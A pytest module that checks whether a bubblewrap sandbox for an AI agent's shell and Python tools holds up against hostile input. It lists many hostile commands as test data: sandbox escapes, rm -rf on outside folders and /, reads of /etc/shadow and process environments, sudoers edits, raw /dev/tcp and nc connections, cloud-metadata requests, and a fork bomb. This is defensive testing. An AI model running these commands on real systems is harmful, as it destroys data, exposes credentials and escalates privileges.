"""The operating-system sandbox holds: hostile programs run, and nothing happens outside.

Each case is run with the text policy out of the way (straight through ``Sandbox.run``: the
boundary must hold on its own) and again through the tool (refused, or contained). Its
effects are checked, not its status: files outside the workspace, a secret file of the
server's, a listening sentinel socket on loopback, marker files in the host's shared
folders, and the process table. The module runs as the server's user; when that is root,
one test runs it again as an unprivileged user.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from concilium.agents.executor import ToolExecutor, build_tools
from concilium.agents.sandbox import Sandbox
from concilium.agents.tools import ToolContext
from concilium.auth.audit import AuditLog
from concilium.auth.principal import OPERATOR
from concilium.config import NetworkToolSettings, SandboxSettings, Settings, ShellSettings
from concilium.store.db import Database
from concilium.store.models import AuditEntry

REPO = Path(__file__).resolve().parents[2]
MARKER = "cz7q"  # in every file name and sleep duration a hostile case leaves behind

# {outside}: a folder next to the workspace; {secret}: a server file; {port}: the sentinel;
# {data}: the server's data dir; {marker}: a name to look for afterwards.
HOSTILE_SHELL = [
    # GTFOBins-style programs that run programs, aimed at things outside
    "awk 'BEGIN{system(\"rm -rf {outside}\")}'",
    "awk 'BEGIN{system(\"rm -rf ~\")}'",
    "sed -n '1e rm -rf {outside}' notes.txt",
    "tar -cf /dev/null notes.txt --checkpoint=1 --checkpoint-action=exec='rm -rf {outside}'",
    "git -c core.pager='rm -rf {outside}' -p log",
    "xargs sh -c 'rm -rf {outside}' < notes.txt",
    "env bash -c 'rm -rf {outside}'",
    "nice sh -c 'echo gone > {outside}/sentinel.txt'",
    "script -qc 'rm -rf {outside}' /dev/null",
    "flock notes.txt -c 'rm -rf {outside}'",
    "gdb -batch -ex 'shell rm -rf {outside}'",
    "busybox sh -c 'rm -rf {outside}'",
    "find . -maxdepth 0 -exec rm -rf {outside} ';'",
    "sort --compress-program='rm -rf {outside}' -S 1 notes.txt",
    "split --filter='rm -rf {outside}' notes.txt",
    "perl -e 'system(\"rm -rf {outside}\")'",
    "python3 -c 'import shutil; shutil.rmtree(\"{outside}\")'",
    "env -S 'sh -c \"rm -rf {outside}\"'",
    # files outside the workspace
    "rm -rf {outside}",
    "rm -rf /",
    "rm -rf / --no-preserve-root",
    "echo gone > {outside}/sentinel.txt",
    "cp notes.txt {outside}/sentinel.txt",
    "mv {outside}/sentinel.txt stolen.txt",
    "chmod 000 {outside}/sentinel.txt",
    "chmod -R 777 {outside}",
    "touch {outside}/{marker}",
    "ln -s {outside} out && echo gone > out/sentinel.txt",
    "ln {secret} hard && cat hard",
    "cat {secret}",
    "cp {secret} copy.txt && cat copy.txt",
    "tar cf - {outside} {secret} | tar tvf -",
    "ls -la {data}",
    "cat {data}/concilium.db",
    "find / -xdev -name 'sentinel.txt' 2>/dev/null",
    "grep -r 'still here' / 2>/dev/null | head",
    "touch /tmp/{marker}",
    "touch /var/tmp/{marker}",
    "mkdir -p /run/{marker}",
    "touch /dev/shm/{marker}",
    "echo x >> /etc/passwd",
    "echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
    "echo x > /usr/{marker}",
    "cp /bin/sh /usr/local/bin/{marker}",
    "cat /etc/shadow",
    "ls /root /home",
    "cat /proc/1/environ",
    "cat /proc/sys/kernel/hostname > /tmp/{marker}",
    "mount -t tmpfs none /usr",
    "mount --bind {outside} .",
    "umount /usr",
    "chroot / id",
    "unshare -Ur id",
    "unshare -m sh -c id",
    "nsenter -t 1 -m -u -i -n -p id",
    "su -c id",
    "sudo -n id",
    "setpriv --reuid=0 id",
    "dd if=/dev/zero of=/dev/sda bs=1k count=1",
    "echo x > /dev/mem",
    "cat /dev/kmsg",
    "hostname {marker}",
    "sysctl -w kernel.hostname={marker}",
    "date -s '2001-01-01'",
    "ip link set lo down",
    "iptables -F",
    # the network
    "curl -s -m 2 http://127.0.0.1:{port}/",
    "wget -q -T 2 -O- http://127.0.0.1:{port}/",
    "bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}'",
    "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)'",
    "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"127.0.0.1:{port}\") or die'",
    "openssl s_client -connect 127.0.0.1:{port} </dev/null",
    "nc -w 2 127.0.0.1 {port}",
    "ping -c 1 -W 1 127.0.0.1",
    "curl -s -m 2 http://169.254.169.254/latest/meta-data/",
    "curl -s -m 2 --noproxy '*' http://10.0.0.1/",
    "rsync -a . rsync://127.0.0.1:{port}/x",
    "ssh -o ConnectTimeout=2 -p {port} x@127.0.0.1",
    "cat /proc/net/tcp",
    # processes
    "nohup sleep 4242{marker_digits} >/dev/null 2>&1 &",
    "setsid sleep 4243{marker_digits} &",
    "(sleep 4244{marker_digits} &) ; echo started",
    "sleep 4245{marker_digits} & disown",
    "kill -9 -1",
    "kill -9 1",
    "pkill -9 -f pytest",
    "killall -9 python3",
    "ps aux",
    "bash bomb.sh",
    "python3 hog.py",
    "dd if=/dev/zero of=big.bin bs=1M count=300",
    "head -c 100000000 /dev/zero > /tmp/fill",
]
HOSTILE_PYTHON = [
    "import shutil; shutil.rmtree('{outside}')",
    "open('{outside}/sentinel.txt', 'w').write('gone')",
    "print(open('{secret}').read())",
    "import os; os.system('rm -rf {outside}')",
    "import subprocess; subprocess.run(['rm', '-rf', '{outside}'])",
    "import os; os.execv('/bin/sh', ['sh', '-c', 'rm -rf {outside}'])",
    "import socket; socket.create_connection(('127.0.0.1', {port}), 2)",
    "import urllib.request; urllib.request.urlopen('http://127.0.0.1:{port}/', timeout=2)",
    "import os; os.kill(1, 9)",
    "import os, signal; os.kill(-1, signal.SIGKILL)",
    "import subprocess; subprocess.Popen(['sleep', '4246{marker_digits}'], start_new_session=True)",
    "import os; os.fork() or os.execvp('sleep', ['sleep', '4247{marker_digits}'])",
    "import ctypes; ctypes.CDLL(None).system(b'rm -rf {outside}')",
    "import os; os.symlink('{outside}', 'out'); open('out/sentinel.txt', 'w').write('gone')",
    "import os; os.link('{secret}', 'hard')",
    "open('/tmp/{marker}', 'w').write('x')",
    "open('/etc/passwd', 'a').write('x')",
    "import os; os.listdir('{data}')",
    "import os; print(os.listdir('/'))",
    "import os; os.chmod('{outside}', 0o777)",
    "import os; os.unshare(os.CLONE_NEWUSER)",
    "import os; os.setuid(0)",
    "x = bytearray(10 ** 10)",
    "import sys; sys.setrecursionlimit(10 ** 6); f = lambda n: f(n + 1); f(0)",
    "while True: open('f%d' % id(object()), 'w').write('x' * 10 ** 6)",
]
NETWORKED = [  # the shell with the network granted: only the guarded proxy is a way out
    "curl -s -m 3 http://127.0.0.1:{port}/",
    "curl -s -m 3 https://127.0.0.1:{port}/",
    "curl -s -m 3 --noproxy '*' http://127.0.0.1:{port}/",
    "curl -s -m 3 -x '' http://127.0.0.1:{port}/",
    "curl -s -m 3 http://169.254.169.254/latest/meta-data/",
    "curl -s -m 3 http://[::1]:{port}/",
    "curl -s -m 3 http://0x7f000001:{port}/",
    "curl -s -m 3 http://localhost:{port}/",
    "bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}'",
    "python3 -c 'import urllib.request as u; u.urlopen(\"http://127.0.0.1:{port}/\", timeout=3)'",
    "printf 'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n' | curl -s -m 3 telnet://127.0.0.1:3128",
]
# The issue's list, through the tool: the text policy refuses each one before it runs.
REFUSED_BY_POLICY = [
    "awk 'BEGIN{system(\"rm -rf ~\")}'",
    "sed -n '1e id' f",
    "vim -c ':!id'",
    "less +!id f",
    "git -c core.pager=id log",
    "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=id",
    "xargs sh",
    "env bash",
    "nice sh",
    "zip z.zip f -T -TT id",
    "script -c id",
    "watch id",
    "flock f -c id",
    "strace -o /dev/null id",
    'gdb -batch -ex "shell id"',
    "busybox sh",
    "gcc x.c -o x && ./x",
    "rsync -a . rsync://10.0.0.5/x",
    "openssl s_client -connect 10.0.0.5:443",
    "ping -f 10.0.0.1",
    "masscan -p0-65535 10.0.0.0/8",
]


class Sentinel:
    """A listening socket on loopback that counts who connects."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(16)
        self.port = self.socket.getsockname()[1]
        self.connections = 0
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self.socket.accept()
            except OSError:
                return
            self.connections += 1
            client.close()

    def close(self) -> None:
        self.socket.close()


@dataclass
class Host:
    """What must not change: the folders and files around the workspace."""

    workspace: Path
    outside: Path
    secret: Path
    data: Path
    sentinel: Sentinel
    marker_digits: str

    def values(self) -> dict[str, Any]:
        return {
            "outside": self.outside,
            "secret": self.secret,
            "data": self.data,
            "port": self.sentinel.port,
            "marker": f"pwned-{MARKER}",
            "marker_digits": self.marker_digits,
        }

    def fill(self, case: str) -> str:
        text = case
        for key, value in self.values().items():
            text = text.replace("{" + key + "}", str(value))
        return text

    def snapshot(self) -> dict[str, Any]:
        return {
            "outside": {
                str(p.relative_to(self.outside)): (p.read_bytes(), stat.S_IMODE(p.stat().st_mode))
                for p in sorted(self.outside.rglob("*"))
            },
            "outside_mode": stat.S_IMODE(self.outside.stat().st_mode),
            "secret": self.secret.read_bytes(),
            "data": sorted(p.name for p in self.data.iterdir()),
            "markers": sorted(str(p) for p in _marker_files()),
        }

    def assert_contained(self, case: str, before: dict[str, Any], output: str) -> None:
        assert not output.startswith("bwrap:"), output  # it ran, in a working sandbox
        assert self.snapshot() == before, case
        assert self.sentinel.connections == 0, case
        assert "host secret" not in output, (case, output)
        assert "still here" not in output, (case, output)
        # The kernel kills what is left in the sandbox's PID namespace when it ends; under
        # load that takes a moment. An escaped process would still run seconds later.
        deadline = time.monotonic() + 3
        while _leftover_processes(self.marker_digits) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _leftover_processes(self.marker_digits) == [], case
        assert socket.gethostname() != f"pwned-{MARKER}"


def _marker_files() -> list[Path]:
    found = []
    for folder in ("/tmp", "/var/tmp", "/run", "/dev/shm", "/usr", "/usr/local/bin"):
        with contextlib.suppress(FileNotFoundError, PermissionError):
            found += [p for p in Path(folder).iterdir() if MARKER in p.name]
    return found


def _leftover_processes(digits: str) -> list[str]:
    """Processes on the host whose command line names this run's marker."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            command = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if f"42{digits}" in command and "sleep" in command:
            found.append(command)
    return found


@pytest.fixture
def host(tmp_path: Path) -> Iterator[Host]:
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    (workspace / "notes.txt").write_text("The plan: keep the budget under 42k.\n")
    (workspace / "bomb.sh").write_text("f() { f | f & }; f\n")
    (workspace / "hog.py").write_text("x = []\nwhile True:\n    x.append(bytearray(10**7))\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "sentinel.txt").write_text("still here")
    secret = tmp_path / "secret.key"
    secret.write_text("host secret")
    secret.chmod(0o600)
    data = tmp_path / "data"
    data.mkdir()
    (data / "concilium.db").write_text("database")
    sentinel = Sentinel()
    digits = str(os.getpid() % 10_000).rjust(4, "0")
    yield Host(workspace, outside, secret, data, sentinel, digits)
    sentinel.close()


def _sandbox(network: bool = False, allow: list[str] | None = None) -> Sandbox:
    shell = ShellSettings(timeout_seconds=5, cpu_seconds=5, memory_mb=512, file_size_mb=50)
    return Sandbox(SandboxSettings(), shell, NetworkToolSettings(allow=allow or []))


async def test_the_sandbox_is_available_here() -> None:
    """CI runs this suite where bubblewrap works; elsewhere the doctor says why."""
    assert await _sandbox().problem() is None


@pytest.mark.parametrize("case", HOSTILE_SHELL)
async def test_a_hostile_command_is_contained_by_the_sandbox_alone(host: Host, case: str) -> None:
    before = host.snapshot()
    command = host.fill(case)
    try:
        run = await _sandbox().run(["/bin/bash", "-c", command], host.workspace)
        output = run.output
    except Exception as exc:  # a time limit is containment too
        output = str(exc)
    host.assert_contained(command, before, output)


@pytest.mark.parametrize("case", HOSTILE_PYTHON)
async def test_hostile_python_is_contained_without_its_runtime_guard(host: Host, case: str) -> None:
    before = host.snapshot()
    code = host.fill(case)
    try:
        run = await _sandbox().run([sys.executable, "-I", "-c", code], host.workspace, python=True)
        output = run.output
    except Exception as exc:
        output = str(exc)
    host.assert_contained(code, before, output)


@pytest.mark.parametrize("case", NETWORKED)
async def test_with_the_network_granted_only_the_guarded_proxy_leads_out(
    host: Host, case: str
) -> None:
    before = host.snapshot()
    command = host.fill(case)
    run = await _sandbox(network=True).run(
        ["/bin/bash", "-c", command], host.workspace, network=True
    )
    host.assert_contained(command, before, run.output)


async def test_the_guarded_proxy_reaches_an_allow_listed_host(host: Host) -> None:
    """The way out works for what the policy allows (here the loopback, allow-listed)."""
    from starlette.applications import Starlette
    from starlette.responses import PlainTextResponse
    from starlette.routing import Route

    from tests.support.servers import serve_in_thread

    async def page(request: Any) -> PlainTextResponse:
        return PlainTextResponse("through the proxy")

    with serve_in_thread(Starlette(routes=[Route("/", page)])) as url:
        sandbox = _sandbox(network=True, allow=["127.0.0.1/32"])
        run = await sandbox.run(
            ["/bin/bash", "-c", f"curl -s -m 5 {url}/"], host.workspace, network=True
        )
        assert run.output == "through the proxy", run.output
        assert run.egress_refused == []
        refused = await _sandbox(network=True).run(
            ["/bin/bash", "-c", f"curl -s -m 5 {url}/"], host.workspace, network=True
        )
        assert "refused by Concilium's network policy" in refused.output
        assert refused.egress_refused
        assert "not a public address" in refused.egress_refused[0]


async def test_the_sandbox_is_unprivileged_isolated_and_limited(host: Host) -> None:
    probe = (
        "id -u; grep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status;"
        " ls /proc | grep -c '^[0-9]'; cat /proc/self/uid_map | wc -l; ls /sys 2>&1 | head -1;"
        " ulimit -u; hostname;"
        " unshare -U true 2>&1 | head -1"
    )
    run = await _sandbox().run(["/bin/bash", "-c", probe], host.workspace)
    lines = run.output.splitlines()
    uid = 65534 if os.geteuid() == 0 else os.getuid()
    assert lines[0] == str(uid)
    assert lines[1:4] == [
        "CapEff:\t0000000000000000",
        "CapBnd:\t0000000000000000",
        "NoNewPrivs:\t1",
    ]
    assert int(lines[4]) <= 6  # its own PID namespace: bwrap, bash and the pipeline
    assert lines[7] == "256"
    assert lines[8] == "sandbox"
    assert "unshare" in lines[9]  # no nested user namespaces


async def test_a_timeout_kills_everything_the_program_started(host: Host) -> None:
    sandbox = Sandbox(SandboxSettings(), ShellSettings(timeout_seconds=1), NetworkToolSettings())
    command = (
        f"setsid sleep 4248{host.marker_digits} & nohup sleep 4249{host.marker_digits} & sleep 60"
    )
    with pytest.raises(Exception, match="longer than 1s"):
        await sandbox.run(["/bin/bash", "-c", command], host.workspace)
    await asyncio.sleep(0.2)
    assert _leftover_processes(host.marker_digits) == []


async def test_without_bubblewrap_programs_are_refused_never_run_unconfined(
    host: Host, database: Database, tmp_path: Path
) -> None:
    settings = Settings(
        data_dir=tmp_path / "data2",
        agents={
            "tools": {"shell": {"enabled": True, "approval": False}},
            "sandbox": {"bwrap": "/nonexistent/bwrap"},
        },
    )
    tools = build_tools(settings, AuditLog(settings, database), database)
    context = ToolContext(principal=OPERATOR, root=host.workspace)
    outcome = await tools.execute("shell", {"command": "touch made.txt"}, context)
    assert outcome.status == "denied"
    assert "cannot be contained" in outcome.output
    assert "bubblewrap" in outcome.output
    assert not (host.workspace / "made.txt").exists()


@pytest.fixture
async def tools(database: Database, tmp_path: Path) -> ToolExecutor:
    settings = Settings(
        data_dir=tmp_path / "server-data",
        agents={
            "tools": {n: {"enabled": True, "approval": False} for n in ("shell", "python")},
            "shell": {"timeout_seconds": 5, "cpu_seconds": 5, "memory_mb": 512},
        },
    )
    return build_tools(settings, AuditLog(settings, database), database)


async def test_every_hostile_case_through_the_tools_is_refused_or_contained(
    host: Host, tools: ToolExecutor, database: Database
) -> None:
    context = ToolContext(principal=OPERATOR, root=host.workspace)
    cases = [("shell", {"command": c}) for c in HOSTILE_SHELL] + [
        ("python", {"code": c}) for c in HOSTILE_PYTHON
    ]
    statuses = []
    for name, arguments in cases:
        filled = {k: host.fill(v) for k, v in arguments.items()}
        before = host.snapshot()
        outcome = await tools.execute(name, filled, context)
        host.assert_contained(str(filled), before, outcome.output)
        statuses.append(outcome.status)
    assert statuses.count("denied") >= len(cases) * 0.8, statuses
    async with database.reader() as s:
        rows = (await s.scalars(select(AuditEntry).order_by(AuditEntry.seq))).all()
    assert [r.outcome for r in rows] == [
        {"ok": "success", "error": "failure", "denied": "denied"}[s] for s in statuses
    ]


async def test_the_issues_escapes_are_refused_before_running(
    host: Host, tools: ToolExecutor
) -> None:
    context = ToolContext(principal=OPERATOR, root=host.workspace)
    for command in REFUSED_BY_POLICY:
        outcome = await tools.execute("shell", {"command": command}, context)
        assert outcome.status == "denied", (command, outcome.output)
        assert outcome.output.startswith("refused: "), outcome.output


async def test_refusals_by_the_sandbox_and_the_guard_are_audited_as_denied(
    host: Host, tools: ToolExecutor, database: Database
) -> None:
    context = ToolContext(principal=OPERATOR, root=host.workspace)
    # A script of the workspace: the text policy cannot see what it does.
    (host.workspace / "escape.py").write_text("open('/usr/local/pwned', 'w')\n")
    wall = await tools.execute("shell", {"command": "python3 escape.py"}, context)
    assert wall.status == "denied"
    assert "the sandbox stopped it (Read-only file system)" in wall.output
    guard = await tools.execute("python", {"code": "import os; os.system('id')"}, context)
    assert guard.status == "denied"
    assert "the runtime guard stopped it: os.system is not allowed" in guard.output
    fine = await tools.execute("python", {"code": "print(6 * 7)"}, context)
    assert (fine.status, fine.output) == ("ok", "exit code 0\n42\n")
    async with database.reader() as s:
        rows = (await s.scalars(select(AuditEntry).order_by(AuditEntry.seq))).all()
    assert [r.outcome for r in rows] == ["denied", "denied", "success"]
    assert "Read-only file system" in rows[0].details["result"]


async def test_a_symlink_planted_in_the_sandbox_does_not_lead_the_file_tools_out(
    host: Host, tools: ToolExecutor, database: Database, tmp_path: Path
) -> None:
    settings = Settings(
        data_dir=tmp_path / "data3",
        agents={
            "tools": {n: {"enabled": True, "approval": False} for n in ("shell", "write_file")}
        },
    )
    tools = build_tools(settings, AuditLog(settings, database), database)
    context = ToolContext(principal=OPERATOR, root=host.workspace)
    before = host.snapshot()
    # Past the text policy (which refuses it), straight in the sandbox: a link whose
    # target exists only outside it, left for the server's own file tools.
    planted = await _sandbox().run(
        ["ln", "-s", f"{host.outside}/sentinel.txt", "link.txt"], host.workspace
    )
    assert planted.exit_code == 0, planted.output
    assert (host.workspace / "link.txt").is_symlink()
    for name, arguments in [
        ("write_file", {"path": "link.txt", "content": "gone"}),
        ("read_file", {"path": "link.txt"}),
        ("write_file", {"path": "link.txt", "content": "gone", "append": True}),
    ]:
        outcome = await tools.execute(name, arguments, context)
        assert outcome.status == "denied", outcome
    host.assert_contained("symlink", before, "")


def test_the_corpus_holds_with_the_server_as_a_normal_user() -> None:
    """This module and the policy corpus again, as an unprivileged user (uid 65534), when
    the suite runs as root: the sandbox then takes its other path (a user namespace made
    by that user)."""
    if os.geteuid() != 0:
        pytest.skip("already running as a normal user")
    needed = [Path(p).resolve() for p in (sys.base_prefix, sys.prefix, REPO)]
    view = ["bwrap", "--dev-bind", "/", "/"]
    for path in needed:
        # Folders above that the user cannot cross are covered by an empty one it can,
        # and what is needed below is bound back in.
        for folder in reversed(path.parents):
            if not folder.stat().st_mode & stat.S_IXOTH and folder != Path("/"):
                view += ["--tmpfs", str(folder)]
                for inner in (p for p in needed if p.is_relative_to(folder)):
                    for step in reversed(inner.parents):
                        if step.is_relative_to(folder) and step != folder:
                            view += ["--perms", "0755", "--dir", str(step)]
                    view += ["--ro-bind", str(inner), str(inner)]
                break
    home = Path(tempfile.mkdtemp(prefix="concilium-normal-user-"))
    os.chown(home, 65534, 65534)
    command = [
        *view,
        "--",
        "setpriv",
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        "--",
        sys.executable,
        "-m",
        "pytest",
        str(Path(__file__)),
        str(Path(__file__).with_name("test_policy_corpus.py")),
        "-q",
        "-x",
        "-p",
        "no:cacheprovider",
        "-k",
        "not normal_user and not the_api_lists and not postgresql",  # both ran as root
        f"--basetemp={home / 'pytest'}",
    ]
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(home),
        "LANG": "C.UTF-8",
        "PYTHONDONTWRITEBYTECODE": "1",
        **{k: v for k, v in os.environ.items() if k == "CONCILIUM_TEST_POSTGRES"},
    }
    try:
        result = subprocess.run(
            command, cwd=REPO, env=env, capture_output=True, text=True, timeout=900, check=False
        )
    finally:
        shutil.rmtree(home, ignore_errors=True)
    assert result.returncode == 0, result.stdout[-5000:] + result.stderr[-3000:]
    assert " passed" in result.stdout


async def test_handing_the_workspace_over_follows_no_link(host: Host) -> None:
    """When the server runs as root the workspace goes to the sandbox's user before each
    run; a link to a file outside, symbolic or hard, must not give that file away."""
    if os.geteuid() != 0:
        pytest.skip("the workspace is handed over only when the server runs as root")
    (host.workspace / "sub").mkdir()
    (host.workspace / "sub" / "to_secret").symlink_to(host.secret)
    os.link(host.secret, host.workspace / "hard_secret")
    await _sandbox().run(["/bin/true"], host.workspace)
    assert host.secret.stat().st_uid == 0
    assert (host.workspace / "sub").stat().st_uid == 65534
    assert (host.workspace / "notes.txt").stat().st_uid == 65534


async def test_python_with_the_network_granted_keeps_its_guard_and_the_proxy(
    host: Host,
) -> None:
    from concilium.agents.builtin import PythonTool
    from concilium.agents.policy import PolicyDenied

    shell = ShellSettings(network=True, timeout_seconds=10)
    tool = PythonTool(shell, Sandbox(SandboxSettings(), shell, NetworkToolSettings()))
    context = ToolContext(principal=OPERATOR, root=host.workspace)
    with pytest.raises(PolicyDenied, match=r"runtime guard stopped it: os\.system"):
        await tool.run(tool.Arguments(code="import os; os.system('id')"), context)
    fetch = f"import urllib.request as u; u.urlopen('http://127.0.0.1:{host.sentinel.port}/')"
    with pytest.raises(PolicyDenied, match=r"network policy refused 127\.0\.0\.1"):
        await tool.run(tool.Arguments(code=fetch), context)
    assert host.sentinel.connections == 0
    assert await tool.run(tool.Arguments(code="print(6 * 7)"), context) == "exit code 0\n42\n"
